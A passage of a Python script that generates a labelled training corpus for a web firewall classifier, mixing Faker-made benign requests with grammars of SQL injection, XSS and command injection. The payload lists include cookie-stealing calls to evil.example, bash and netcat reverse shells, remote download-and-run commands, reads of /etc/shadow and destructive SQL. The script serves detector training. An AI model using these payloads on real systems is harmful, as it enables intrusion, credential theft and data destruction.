#!/usr/bin/env python3
"""Generate Bulwark's labelled training corpus as JSON Lines.

Everything is derived from a fixed seed, so `make corpus` is reproducible:
benign traffic from many kinds of apps (values from Faker), attacks from our
own grammars plus sqlmap's shipped payload templates and tamper scripts, and
the obfuscations attackers use against regex WAFs. Each attack request
records the part and field its payload sits in, so the Go feature writer can
label fields, not just requests.

Splits: attack payloads are split by a hash of the *base* payload (so an
obfuscated variant never lands on the other side of its original), and some
whole payload families are held out ("family_test") to measure
generalisation to attack shapes the trees never saw.
"""
import argparse
import base64
import datetime
import hashlib
import html
import importlib
import json
import os
import random
import re
import string
import sys
import urllib.parse
import xml.etree.ElementTree as ET

from faker import Faker

# Families never trained on; one per class, chosen to be sibling shapes of
# trained ones rather than unrelated novelties.
HOLDOUT_FAMILIES = {"sqli_stacked", "xss_attr_break", "rce_windows", "lfi_wrapper"}

R = random.Random()


def pick(seq):
    return seq[R.randrange(len(seq))]


def chance(p):
    return R.random() < p


# --------------------------------------------------------------------------
# Benign value pools (Faker is slow, so pools are drawn once per run).
# --------------------------------------------------------------------------
class Pools:
    def __init__(self, seed):
        Faker.seed(seed)
        self.en = Faker("en_US")
        locs = ["de_DE", "fr_FR", "es_ES", "it_IT", "pt_BR", "ru_RU", "ja_JP",
                "zh_CN", "ko_KR", "pl_PL", "nl_NL", "tr_TR", "ar_AA", "he_IL", "el_GR", "hi_IN"]
        self.intl = [Faker(l) for l in locs]
        f = self.en
        n = 3000
        self.names = [f.name() for _ in range(n)] + [x.name() for x in self.intl for _ in range(150)]
        self.first = [f.first_name() for _ in range(n)]
        self.last = [f.last_name() for _ in range(n)] + ["O'Brien", "O'Neil", "D'Angelo", "McDonald's", "Smith-Jones", "de la Cruz"]
        self.emails = [f.email() for _ in range(n)] + [f.free_email() for _ in range(n)]
        self.sentences = [f.sentence(nb_words=R.randint(3, 18)) for _ in range(n)]
        self.paragraphs = [f.paragraph(nb_sentences=R.randint(2, 6)) for _ in range(1000)]
        self.intl_text = [x.text(max_nb_chars=R.choice([40, 120, 300])) for x in self.intl for _ in range(150)]
        self.words = [f.word() for _ in range(n)]
        self.companies = [f.company() for _ in range(n)]
        self.addresses = [f.address().replace("\n", ", ") for _ in range(n)] + [x.address().replace("\n", " ") for x in self.intl for _ in range(50)]
        self.cities = [f.city() for _ in range(1000)]
        self.urls = [f.url() for _ in range(1000)] + [f.uri() for _ in range(1000)]
        self.uas = [f.user_agent() for _ in range(2000)]
        self.ips = [f.ipv4() for _ in range(2000)] + [f.ipv6() for _ in range(200)]
        self.phones = [f.phone_number() for _ in range(1000)]
        self.products = [f"{f.color_name()} {f.word()} {pick(['Pro', 'Max', 'Mini', '2', 'XL', 'v3', ''])}".strip() for _ in range(2000)]
        self.passwords = [f.password(length=R.randint(8, 20), special_chars=True) for _ in range(2000)]
        self.usernames = [f.user_name() for _ in range(2000)]
        self.slugs = [f.slug() for _ in range(2000)]
        self.files = [f.file_name() for _ in range(1000)] + [f.file_path(depth=R.randint(1, 3)) for _ in range(500)]
        # Fixed bounds: Faker's defaults end at "now", which would make the
        # corpus depend on the day it is generated.
        lo, hi = datetime.datetime(1970, 1, 1), datetime.datetime(2026, 1, 1)
        self.dates = [f.date_time_between(lo, hi).date().isoformat() for _ in range(500)] + \
            [f.date_time_between(lo, hi).isoformat() for _ in range(500)]
        self.colors = [f.hex_color() for _ in range(300)]
        self.langs = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9", "ja,en-US;q=0.9,en;q=0.8",
                      "zh-CN,zh;q=0.9", "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7", "ru-RU,ru;q=0.9,en;q=0.8", "*"]


SQLISH_PROSE = [
    "select a date", "Please select a date from the calendar", "drop me a line", "Drop me a line when you're free",
    "union of european states", "Union Station to Grand Central", "where is my order from last week?",
    "delete my account please", "I want to update my shipping address", "insert coin to continue",
    "order by price, then by rating", "select all that apply", "from: John Smith", "group by region",
    "and/or", "either this or that", "rock 'n' roll", "it's 5 o'clock somewhere", "can't login; tried twice",
    "O'Reilly books -- new edition", "table for two at 7pm", "create a new playlist", "join our union today",
    "sleep apnea treatment", "benchmark results 2024", "exec summary (draft)", "cast of characters: Anna, Bob",
    "I'd like 2 > 1 more options", "price < 100 and rating >= 4", "x = y + 1", "if (a == b) then c",
    "what's the difference between 'like' and 'love'?", "C:\\Program Files\\App", "the cat sat on the mat",
    "echo chamber effect", "ping me on slack", "kill bill vol. 2", "python vs perl for scripting",
    "bash the bishop", "the id card is missing", "set up your environment", "type your message here",
    "1 + 1 = 2", "50% off; today only!", "Tom & Jerry", "AT&T customer service", "Q&A session",
    "\"quoted\" text with 'single' quotes", "email me at john(at)example(dot)com", "#hashtag #blessed",
    "first-name.last-name", "~/Documents/notes.txt", "../ relative paths explained", "version 1.2.3-beta",
    "select * from the menu", "or else!", "null and void", "true or false quiz", "Where's Wally?",
    "Let's meet at Joe's", "It's not 1=1, it's apples & oranges", "run `npm install` first",
    "use $HOME/bin in PATH", "cost: $5 (approx.)", "{\"nested\": \"json in a string\"}", "<3 love it",
    "a <b> tag and a <i> tag", "See: https://example.com/page?id=1&sort=asc", "mailto:someone@example.org",
]

SEARCHY = [
    "\"exact phrase\" -exclude site:example.com", "C++ vs C# performance", "price:<100 brand:acme", "author:\"O'Neil\"",
    "1/2 cup sugar", "50% off shoes", "docs/readme.md", "C:\\Users\\me\\Documents\\report.docx", "~/Downloads/photo (1).jpg",
    "how to use grep -r", "what does 'select' do in excel", "best pizza near me", "iphone 15 pro max 256gb", "a+b=c proof",
    "<3 cats", "R&D budget 2024", "sales (q1) vs (q2)", "node.js & express tutorial", "error: cannot find module 'react'",
    "SELECT statement tutorial for beginners", "why is my bash script slow", "rm vs rmdir", "/etc/hosts file format explained",
    "what is ../ in a url", "order of operations (PEMDAS)", "Men's shoes size 10", "l'été à Paris", "Straße & Weg", "it's – an en dash",
]

CODE_SNIPPETS = [
    "def add(a, b):\n    return a + b", "const total = items.reduce((s, i) => s + i.price, 0);",
    "for (let i = 0; i < n; i++) { sum += arr[i]; }", "SELECT name, email FROM customers WHERE country = 'DE' ORDER BY name;",
    "git commit -m \"fix: handle empty list\"", "docker run -p 8080:80 nginx", "pip install requests==2.31.0",
    "if err != nil {\n\treturn fmt.Errorf(\"open: %w\", err)\n}", "<div class=\"card\">{{ title }}</div>",
    "import numpy as np\nx = np.zeros((3, 3))", "kubectl get pods -n kube-system", "ls -la ~/projects",
    "printf(\"%d\\n\", x);", "System.out.println(\"Hello, World!\");", "console.log(`value: ${value}`);",
    "curl -X POST https://api.example.com/v1/items -d '{\"a\":1}'", "SELECT COUNT(*) FROM orders;",
    "UPDATE settings SET theme = 'dark' WHERE user_id = 42;", "<script src=\"/static/app.js\"></script> is how we load it",
    "echo $PATH", "cat README.md | grep install", "rm -rf node_modules && npm ci", "x = y if y else z",
    "${HOME}/config.yaml", "{% if user %}Hello {{ user.name }}{% endif %}", "<?xml version=\"1.0\"?>",
    "fn main() { println!(\"hi\"); }", "while True:\n    pass", "<%= link_to 'Home', root_path %>",
]

MARKDOWN = [
    "# Title\n\nSome **bold** and _italic_ text.", "- item one\n- item two\n- [link](https://example.com)",
    "> quoted reply\n\nThanks!", "```\ncode block\n```", "| a | b |\n|---|---|\n| 1 | 2 |",
    "<p>Hello <b>world</b></p>", "<a href=\"https://example.org/docs\">docs</a>", "<ul><li>one</li><li>two</li></ul>",
    "<img src=\"https://cdn.example.com/p/12.png\" alt=\"photo\">", "<br>line<br/>break", "<em>really</em> nice",
    "![screenshot](https://i.example.com/a.png)", "<h2>Specs</h2><table><tr><td>Weight</td><td>1kg</td></tr></table>",
    "<span style=\"color:red\">red</span>", "<blockquote>to be or not to be</blockquote>",
]


def b64(n):
    return base64.b64encode(R.randbytes(n)).decode()


def b64url(n):
    return base64.urlsafe_b64encode(R.randbytes(n)).decode().rstrip("=")


def jwt():
    head = base64.urlsafe_b64encode(json.dumps({"alg": pick(["HS256", "RS256"]), "typ": "JWT"}).encode()).decode().rstrip("=")
    body = base64.urlsafe_b64encode(json.dumps({"sub": str(R.randint(1, 10**6)), "iat": R.randint(1.6e9, 1.8e9), "scope": "read write"}).encode()).decode().rstrip("=")
    return f"{head}.{body}.{b64url(32)}"


def uuid4():
    return "%08x-%04x-4%03x-%04x-%012x" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(12), R.getrandbits(16) | 0x8000 & 0xbfff, R.getrandbits(48))


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


class Benign:
    """Requests of many app shapes; returns (method, path, query pairs, headers, body, ctype)."""

    def __init__(self, p: Pools):
        self.p = p

    def text(self):
        p = self.p
        k = R.random()
        if k < 0.25:
            return pick(p.sentences)
        if k < 0.35:
            return pick(p.paragraphs)
        if k < 0.50:
            return pick(p.intl_text)
        if k < 0.65:
            s = pick(SQLISH_PROSE)
            return s if chance(0.5) else f"{pick(p.sentences)} {s}"
        if k < 0.70:
            return pick(CODE_SNIPPETS)
        if k < 0.73:
            return pick(SEARCHY)
        if k < 0.83:
            return pick(MARKDOWN)
        if k < 0.90:
            return f"{pick(p.first)}'s {pick(p.words)} isn't \"{pick(p.words)}\" - {pick(p.sentences)}"
        return " ".join(pick(p.words) for _ in range(R.randint(1, 5)))

    def value(self, kind=None):
        p = self.p
        kind = kind or pick(["int", "word", "name", "email", "uuid", "date", "text", "url", "bool", "price",
                             "slug", "token", "phone", "product", "city", "color", "csv", "file", "ip"])
        return {
            "int": lambda: str(R.randint(0, 10**R.randint(1, 9))),
            "word": lambda: pick(p.words),
            "name": lambda: pick(p.names),
            "email": lambda: pick(p.emails),
            "uuid": uuid4,
            "date": lambda: pick(p.dates),
            "text": self.text,
            "url": lambda: pick(p.urls) + (f"?utm_source={pick(p.words)}&id={R.randint(1, 999)}" if chance(0.3) else ""),
            "bool": lambda: pick(["true", "false", "1", "0", "on", "yes"]),
            "price": lambda: f"{R.uniform(0, 999):.2f}",
            "slug": lambda: pick(p.slugs),
            "token": lambda: pick([b64(R.randint(8, 48)), jwt(), hexs(R.choice([32, 40, 64])), b64url(24)]),
            "phone": lambda: pick(p.phones),
            "product": lambda: pick(p.products),
            "city": lambda: pick(p.cities),
            "color": lambda: pick(p.colors),
            "csv": lambda: ",".join(pick(p.words) for _ in range(R.randint(2, 5))),
            "file": lambda: pick(p.files),
            "ip": lambda: pick(p.ips),
        }[kind]()

    def headers(self):
        p = self.p
        h = {"User-Agent": pick(p.uas) if chance(0.9) else pick(["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "okhttp/4.12.0", "PostmanRuntime/7.36.0"]),
             "Accept": pick(["*/*", "application/json", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", "application/json, text/plain, */*", "image/webp,*/*"])}
        if chance(0.7):
            h["Accept-Language"] = pick(p.langs)
        if chance(0.5):
            h["Referer"] = pick(p.urls) + (f"?q={urllib.parse.quote_plus(pick(p.words))}" if chance(0.3) else "")
        if chance(0.2):
            h["X-Forwarded-For"] = ", ".join(pick(p.ips) for _ in range(R.randint(1, 3)))
        if chance(0.6):
            cookies = []
            for _ in range(R.randint(1, 5)):
                k = R.random()
                if k < 0.2:
                    cookies.append(f"session={hexs(32)}")
                elif k < 0.35:
                    cookies.append(f"_ga=GA1.2.{R.randint(10**8, 10**9)}.{R.randint(1.6e9, 1.8e9)}")
                elif k < 0.5:
                    cookies.append(f"token={jwt()}")
                elif k < 0.6:
                    cookies.append("prefs=" + urllib.parse.quote(json.dumps({"theme": pick(["dark", "light"]), "lang": pick(["en", "de", "fr"])})))
                elif k < 0.7:
                    cookies.append(f"cart={b64(R.randint(10, 60))}")
                elif k < 0.8:
                    cookies.append(f"last_search={urllib.parse.quote(self.text()[:60])}")
                else:
                    cookies.append(f"{pick(p.words)}_{pick(['id', 'pref', 'seen', 'consent'])}={self.value(pick(['int', 'word', 'uuid', 'bool', 'date']))}")
            h["Cookie"] = "; ".join(cookies)
        if chance(0.1):
            h["X-Api-Key"] = hexs(32)
        if chance(0.1):
            h["X-Requested-With"] = "XMLHttpRequest"
        if chance(0.05):
            h["Origin"] = pick(p.urls).rstrip("/")
        return h

    def path(self):
        p = self.p
        k = R.random()
        if k < 0.3:
            return "/api/v%d/%s/%s" % (R.randint(1, 3), pick(["users", "orders", "items", "products", "posts", "comments", "accounts", "invoices"]), pick([str(R.randint(1, 99999)), uuid4(), pick(p.slugs)]))
        if k < 0.45:
            return "/%s/%d/%02d/%s" % (pick(["blog", "news", "articles"]), R.randint(2010, 2026), R.randint(1, 12), pick(p.slugs))
        if k < 0.6:
            return "/static/%s/%s.%s.%s" % (pick(["js", "css", "img", "fonts"]), pick(p.words), hexs(8), pick(["js", "css", "png", "woff2", "svg"]))
        if k < 0.7:
            segs = [urllib.parse.quote(pick(p.intl_text).split()[0][:20]) for _ in range(R.randint(1, 2))]
            return "/wiki/" + "/".join(segs)
        if k < 0.8:
            return "/" + "/".join(pick(p.words) for _ in range(R.randint(1, 4)))
        if k < 0.9:
            return pick(["/search", "/login", "/register", "/contact", "/checkout", "/cart", "/profile", "/settings", "/", "/index.php", "/download", "/view"])
        return "/files/" + urllib.parse.quote(pick(p.files).lstrip("/"))

    def query(self):
        p = self.p
        pairs = []
        k = R.random()
        if k < 0.3:
            pairs.append(("q", pick([self.text()[:80], pick(p.products), pick(SQLISH_PROSE), pick(p.words), pick(SEARCHY)])))
        for _ in range(R.randint(0, 4)):
            name = pick(["id", "page", "limit", "offset", "sort", "order", "lang", "ref", "utm_source", "utm_campaign",
                         "filter", "category", "tag", "redirect", "return_to", "callback", "file", "path", "view", "format",
                         "fields", "include", "expand", "from", "to", "date", "ts", "token", "name", "email", "search", "next", "type"])
            kind = {"redirect": "url", "return_to": "url", "next": "url", "callback": "url", "file": "file", "path": "file",
                    "email": "email", "token": "token", "date": "date", "from": "date", "to": "date", "ts": "int",
                    "search": "text", "name": "name", "fields": "csv", "include": "csv"}.get(name)
            v = self.value(kind)
            if name in ("sort", "order"):
                v = pick(["asc", "desc", "price", "-created_at", "name,asc", "relevance"])
            if name == "filter":
                v = pick([f"status:{pick(['open', 'closed'])}", f"price>{R.randint(1, 100)}", f"name eq '{pick(p.words)}'", "created_at gte 2024-01-01"])
            pairs.append((name, v))
        return pairs

    def form(self):
        p = self.p
        shape = pick(["login", "register", "contact", "comment", "checkout", "profile", "search"])
        if shape == "login":
            return shape, [("username", pick([pick(p.usernames), pick(p.emails)])), ("password", pick(p.passwords)), ("remember", "on")]
        if shape == "register":
            return shape, [("first_name", pick(p.first)), ("last_name", pick(p.last)), ("email", pick(p.emails)), ("password", pick(p.passwords)), ("company", pick(p.companies))]
        if shape == "contact":
            return shape, [("name", pick(p.names)), ("email", pick(p.emails)), ("subject", pick(p.sentences)), ("message", self.text())]
        if shape == "comment":
            return shape, [("author", pick(p.names)), ("body", pick([self.text(), pick(MARKDOWN), pick(CODE_SNIPPETS)])), ("post_id", str(R.randint(1, 9999)))]
        if shape == "checkout":
            return shape, [("address", pick(p.addresses)), ("city", pick(p.cities)), ("phone", pick(p.phones)), ("notes", self.text()), ("qty", str(R.randint(1, 9)))]
        if shape == "profile":
            return shape, [("display_name", pick(p.names)), ("bio", self.text()), ("website", pick(p.urls)), ("avatar", pick(p.files))]
        return shape, [("q", self.text()[:100]), ("category", pick(p.words))]

    def json_body(self, depth=0):
        p = self.p
        obj = {}
        for _ in range(R.randint(1, 6)):
            k = pick(["id", "name", "title", "description", "email", "notes", "tags", "price", "quantity", "address", "comment",
                      "status", "created_at", "user", "items", "metadata", "content", "query", "url", "enabled", "token", "message", "filter"])
            if k in ("user", "metadata") and depth < 2:
                obj[k] = self.json_body(depth + 1)
            elif k in ("tags", "items"):
                obj[k] = [self.value(pick(["word", "int", "product"])) for _ in range(R.randint(0, 4))]
            elif k in ("price", "quantity", "id"):
                obj[k] = R.randint(0, 10000) if chance(0.7) else uuid4()
            elif k == "enabled":
                obj[k] = chance(0.5)
            elif k in ("description", "notes", "comment", "content", "message", "query"):
                obj[k] = self.text()
            else:
                obj[k] = self.value()
        return obj


def flatten_json(obj, prefix=""):
    """Leaf string paths as the Go field splitter names them."""
    out = []
    if isinstance(obj, dict):
        for k in sorted(obj):
            out += flatten_json(obj[k], f"{prefix}.{k}" if prefix else k)
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            out += flatten_json(v, f"{prefix}[{i}]")
    elif isinstance(obj, str):
        out.append(prefix)
    return out


def set_json(obj, path, value):
    parts = re.findall(r"[^.\[\]]+|\[\d+\]", path)
    cur = obj
    for i, part in enumerate(parts):
        last = i == len(parts) - 1
        key = int(part[1:-1]) if part.startswith("[") else part
        if last:
            cur[key] = value
        else:
            cur = cur[key]


# --------------------------------------------------------------------------
# Attack grammars. Each returns (family, payload).
# --------------------------------------------------------------------------
def rnum():
    return str(R.randint(1, 9999))


def rstr(n=None):
    return "".join(R.choice(string.ascii_letters) for _ in range(n or R.randint(3, 8)))


SQL_TABLES = ["users", "admin", "accounts", "members", "information_schema.tables", "mysql.user", "sysobjects", "pg_user", "customers", "wp_users"]
SQL_COLS = ["username", "password", "user", "pass", "email", "table_name", "column_name", "name", "passwd", "login"]


class SQLMapPayloads:
    """Templates shipped in the sqlmap package, with placeholders filled."""

    def __init__(self):
        import sqlmap
        base = os.path.dirname(sqlmap.__file__)
        self.base = base
        self.by_type = {}
        stype_family = {"1": "sqli_boolean", "2": "sqli_error", "3": "sqli_inline", "4": "sqli_stacked", "5": "sqli_time"}
        for fn in sorted(os.listdir(os.path.join(base, "data/xml/payloads"))):
            root = ET.parse(os.path.join(base, "data/xml/payloads", fn)).getroot()
            for t in root.iter("test"):
                pl = t.findtext("request/payload")
                st = t.findtext("stype")
                if pl and st in stype_family:
                    self.by_type.setdefault(stype_family[st], []).append(pl.strip())
        self.prefixes, self.suffixes = ["", "'", "\"", ")", "')", "\")", "'))", "1", "1'", "-1'", "%'"], ["", "-- -", "#", "--", "/*", "AND '1'='1", "AND 1=1", "-- ", "; --", "' AND '1'='1", "OR '1'='1"]
        sys.path.insert(0, base)
        self.tampers = {}
        for n in ["space2comment", "between", "equaltolike", "space2dash", "space2randomblank", "symboliclogical",
                  "apostrophenullencode", "modsecurityversioned", "escapequotes", "binary", "0eunion", "dunion",
                  "misunion", "greatest", "if2case", "sp_password", "space2plus", "charunicodeencode", "percentage",
                  "charencode", "chardoubleencode", "overlongutf8", "space2mssqlblank", "unmagicquotes", "hexentities", "decentities"]:
            try:
                self.tampers[n] = importlib.import_module("tamper." + n).tamper
            except Exception:
                pass

    def fill(self, s):
        subs = {
            "[RANDNUM]": rnum, "[RANDNUM1]": rnum, "[RANDNUM2]": rnum, "[RANDNUM3]": rnum, "[RANDNUM4]": rnum, "[RANDNUM5]": rnum,
            "[RANDSTR]": rstr, "[RANDSTR1]": rstr, "[RANDSTR2]": rstr, "[RANDSTR3]": rstr, "[RANDSTR4]": rstr,
            "[SLEEPTIME]": lambda: str(R.randint(1, 10)), "[DELIMITER_START]": lambda: "q" + rstr(3).lower() + "q",
            "[DELIMITER_STOP]": lambda: "q" + rstr(3).lower() + "q", "[DELAYED]": lambda: str(R.randint(1, 9)),
            "[INFERENCE]": lambda: pick(["1=1", "ASCII(SUBSTRING((SELECT user()),1,1))>64", "(SELECT COUNT(*) FROM users)>0", f"{rnum()}={rnum()}"]),
            "[GENERIC_SQL_COMMENT]": lambda: pick(["-- -", "#", "/* */"]), "[ORIGVALUE]": rnum, "[QUERY]": lambda: pick(["SELECT user()", "SELECT @@version", "SELECT password FROM users LIMIT 1"]),
            "[SLEEPTIME2]": lambda: "5",
        }
        for k, fn in subs.items():
            while k in s:
                s = s.replace(k, fn(), 1)
        return re.sub(r"\[[A-Z_0-9]+\]", lambda m: rnum(), s)

    def payload(self, family):
        t = self.fill(pick(self.by_type[family]))
        return f"{pick(self.prefixes)} {t} {pick(self.suffixes)}".strip()


def sqli_boolean(sm):
    if chance(0.4):
        return sm.payload("sqli_boolean")
    q = pick(["'", "\"", "", "')", "1'", "1", "admin'", "x')", "%'"])
    a, b = rnum(), rnum()
    cond = pick([f"{a}={a}", f"'{a}'='{a}", f"{a}>{int(a)-1}", "true", f"'{rstr(1)}' LIKE '{rstr(1)}", f"{a}<>{b}", f"{a} BETWEEN {a} AND {a}", "1", "2>1", f"ASCII(SUBSTRING(user(),1,1))>{R.randint(60, 120)}", f"(SELECT COUNT(*) FROM {pick(SQL_TABLES)})>0"])
    op = pick(["OR", "AND", "||", "&&", "or", "and", "XOR"])
    return f"{q} {op} {cond}{pick(['', ' -- -', '#', '--', ' /*', ';--', ' -- ', ' LIMIT 1-- -'])}".strip()


def sqli_union(sm):
    q = pick(["'", "\"", "", "')", "1'", "-1", "0", "1", "-1'", "')) "])
    n = R.randint(1, 8)
    cols = [pick(["NULL", rnum(), pick(SQL_COLS), "@@version", "version()", "user()", "database()", "current_user", f"concat({pick(SQL_COLS)},0x3a,{pick(SQL_COLS)})", f"group_concat({pick(SQL_COLS)})", "table_name", "load_file('/etc/passwd')", "'a'"]) for _ in range(n)]
    frm = f" FROM {pick(SQL_TABLES)}" if chance(0.6) else ""
    where = f" WHERE {pick(['table_schema=database()', '1=1', 'id=1', 'table_name=' + repr(pick(SQL_TABLES))])}" if chance(0.3) else ""
    return f"{q} UNION {pick(['', 'ALL ', 'DISTINCT '])}SELECT {','.join(cols)}{frm}{where}{pick(['', '-- -', '#', '--', ' LIMIT 1', '/*'])}".strip()


def sqli_error(sm):
    if chance(0.6):
        return sm.payload("sqli_error")
    q = pick(["'", "\"", "1'", "1", ")"])
    e = pick([f"extractvalue(1,concat(0x7e,({pick(['select user()', 'select @@version', 'select database()'])})))",
              f"updatexml(1,concat(0x7e,(select {pick(SQL_COLS)} from {pick(SQL_TABLES)} limit 1)),1)",
              "convert(int,(select @@version))", "cast((select version()) as int)", "1/0", "exp(~(select * from (select user())x))",
              "(select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x from information_schema.tables group by x)a)"])
    return f"{q} {pick(['AND', 'OR', 'and'])} {e}{pick(['', '-- -', '#'])}"


def sqli_time(sm):
    if chance(0.5):
        return sm.payload("sqli_time")
    q = pick(["'", "\"", "1'", "1", "')", ""])
    s = R.randint(1, 15)
    t = pick([f"SLEEP({s})", f"pg_sleep({s})", f"WAITFOR DELAY '0:0:{s}'", f"BENCHMARK({R.randint(10**5, 10**7)},MD5(1))",
              f"(SELECT * FROM (SELECT(SLEEP({s})))a)", f"IF(1=1,SLEEP({s}),0)", f"dbms_pipe.receive_message(('a'),{s})", f"randomblob({R.randint(10**8, 10**9)})"])
    return f"{q} {pick(['AND', 'OR', ';', '||', 'and'])} {t}{pick(['', '-- -', '#', '--'])}".strip()


def sqli_stacked(sm):
    if chance(0.5):
        return sm.payload("sqli_stacked")
    q = pick(["'", "1'", "1", "\"", "');"])
    st = pick([f"DROP TABLE {pick(SQL_TABLES)}", f"INSERT INTO users(username,password) VALUES('{rstr()}','{rstr()}')",
               f"UPDATE users SET password='{rstr()}' WHERE username='admin'", "EXEC xp_cmdshell 'whoami'", "SHUTDOWN",
               f"DELETE FROM {pick(SQL_TABLES)}", "DECLARE @q varchar(99); SET @q='x'; EXEC(@q)", "CREATE USER hacker IDENTIFIED BY 'x'"])
    return f"{q}; {st}{pick(['', '-- -', ';--', '#'])}"


def sqli_inline(sm):
    if chance(0.5):
        # Login-form bypasses: a user name, a quote, and a comment or an
        # always-true tail.
        user = pick(["admin", "root", "administrator", "user", "test", "", "guest", "sa", "1", "a"])
        q = pick(["'", "\"", "')", "\")", "'))"])
        tail = pick(["--", "-- -", "#", "/*", ";--", ";%00", " or '1'='1", " or 1=1--", " or ''='", "||'1'='1", " or 1#", " OR 'x'='x'--",
                     " and 1=1#", " limit 1-- -", "=''or'", " or true--", ") or ('a'='a", "/**/or/**/1=1#"])
        return f"{user}{q}{pick(['', ' '])}{tail}"
    return pick([f"(SELECT {pick(SQL_COLS)} FROM {pick(SQL_TABLES)} LIMIT 1)", f"1 ORDER BY {R.randint(1, 20)}-- -",
                 f"1' ORDER BY {R.randint(1, 20)}#", f"{rnum()} GROUP BY {R.randint(1, 5)} HAVING 1=1--", f"1 AND (SELECT SUBSTR({pick(SQL_COLS)},1,1) FROM {pick(SQL_TABLES)})='a'",
                 f"' OR ''='", f"1' procedure analyse()#", pick(["@@version", "@@datadir", "@@hostname", "user()", "version()", "database()"]),
                 f"1;SELECT pg_sleep({R.randint(1, 9)})", f"{rnum()}-{rnum()}", f"{rnum()} div 0", f"if(1=1,1,0)", f"case when 1=1 then 1 else 0 end",
                 f"{rnum()} rlike (select 1)", f"1) and ({rnum()}={rnum()}", f"(select(0)from(select(sleep({R.randint(1, 9)})))v)"])


XSS_TAGS = ["img", "svg", "body", "iframe", "video", "audio", "input", "details", "marquee", "object", "embed", "a", "div", "math", "select", "textarea", "keygen", "isindex", "form", "button", "x", "style", "source", "image"]
XSS_EVENTS = ["onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onmouseenter", "onauxclick", "onfocusin", "onwheel", "onbeforeprint", "onpageshow", "oninput"]
JS_SINKS = ["alert(1)", "alert(document.cookie)", "prompt(1)", "confirm(document.domain)", "alert`1`", "eval(atob('YWxlcnQoMSk='))",
            "fetch('//evil.example/'+document.cookie)", "document.location='http://evil.example/?c='+document.cookie", "top['al'+'ert'](1)",
            "window['\\x61lert'](1)", "(alert)(1)", "new Image().src='//x.example/?'+document.cookie", "import('//x.example/m.js')",
            "String.fromCharCode(88,83,83)", "self[`alert`](1)", "setTimeout('alert(1)')", "[].constructor.constructor('alert(1)')()",
            "location.href='javascript:alert(1)'", "console.log(document.cookie)", "parent.alert(1)", "Function('alert(1)')()"]


def xss_script():
    s = pick(JS_SINKS)
    return pick([f"<script>{s}</script>", f"<script src=//evil.example/x.js></script>", f"<ScRiPt>{s}</sCrIpT>",
                 f"<script>{s}//", f"<script type=text/javascript>{s};</script>", f"<scr<script>ipt>{s}</scr</script>ipt>",
                 f"<script\x20type=\"text/javascript\">{s}</script>", f"</title><script>{s}</script>", f"<script>/*{rstr()}*/{s}</script>"])


def xss_event():
    t, e, s = pick(XSS_TAGS), pick(XSS_EVENTS), pick(JS_SINKS)
    sep = pick([" ", "/", "\t", "\n", " x ", "/x/"])
    q = pick(["", "\"", "'"])
    extra = pick(["", " src=x", " autofocus", " open", " tabindex=1", " style=animation-name:x"])
    return f"<{t}{extra}{sep}{e}={q}{s}{q}>" + pick(["", f"</{t}>", "//"])


def xss_uri():
    s = pick(JS_SINKS)
    return pick([f"javascript:{s}", f"JaVaScRiPt:{s}", f"java\tscript:{s}", f"<a href=\"javascript:{s}\">click</a>",
                 f"<iframe src=\"javascript:{s}\">", f"data:text/html;base64,{base64.b64encode(f'<script>{s}</script>'.encode()).decode()}",
                 f"<object data=\"data:text/html,<script>{s}</script>\">", f"<a href=javascript&colon;{s}>x</a>", f"vbscript:msgbox(1)",
                 f"<form action=javascript:{s}><input type=submit>", f"<embed src=\"javascript:{s}\">", f"javascript://%0a{s}"])


def xss_attr_break():
    s, e = pick(JS_SINKS), pick(XSS_EVENTS)
    return pick([f"\"><script>{s}</script>", f"'><svg onload={s}>", f"\" {e}=\"{s}\" x=\"", f"' {e}='{s}' autofocus x='",
                 f"\"/><img src=x {e}={s}>", f"';{s};//", f"\";{s};//", f"</script><script>{s}</script>", f"\"-{s}-\"", f"'-{s}-'",
                 f"\" autofocus {e}={s} \"", f"</textarea><svg/onload={s}>", f"--><img src=x onerror={s}>"])


def xss_polyglot():
    s = pick(JS_SINKS)
    return pick([f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={s} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={s}//>\\x3e",
                 f"<svg><animate onbegin={s} attributeName=x dur=1s>", f"<math><mtext><table><mglyph><style><img src=x onerror={s}>",
                 f"<x contenteditable onblur={s}>lose focus!", f"<style>@keyframes x{{}}</style><xss style=\"animation-name:x\" onanimationstart=\"{s}\"></xss>",
                 f"<svg><script>{s}</script>", f"<img src=\"x` `<script>{s}</script>\"` `>", f"<base href=\"javascript:/\">", f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{s}\">"])


UNIX_CMDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "wget http://evil.example/x.sh -O /tmp/x", "curl http://evil.example/$(whoami)",
             "nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sleep 5", "ping -c 3 127.0.0.1", "echo vulnerable",
             "cat /etc/shadow", "rm -rf /tmp/*", "python -c 'import os;os.system(\"id\")'", "perl -e 'print 1'", "nslookup x.evil.example", "ifconfig", "ps aux", "env", "busybox nc 1.2.3.4 9 -e sh"]
WIN_CMDS = ["dir", "dir c:\\", "type c:\\windows\\win.ini", "whoami", "net user", "ipconfig /all", "powershell -enc " + base64.b64encode("whoami".encode("utf-16le")).decode(),
            "cmd /c whoami", "certutil -urlcache -split -f http://evil.example/x.exe", "systeminfo", "ping -n 3 127.0.0.1", "tasklist", "powershell IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')"]


def rce_unix():
    c = pick(UNIX_CMDS)
    pre = pick(["", "1", "127.0.0.1", "x", "foo.txt", "a'"])
    return pick([f"{pre};{c}", f"{pre}; {c}", f"{pre}|{c}", f"{pre} | {c}", f"{pre}&&{c}", f"{pre}||{c}", f"{pre}`{c}`", f"{pre}$({c})",
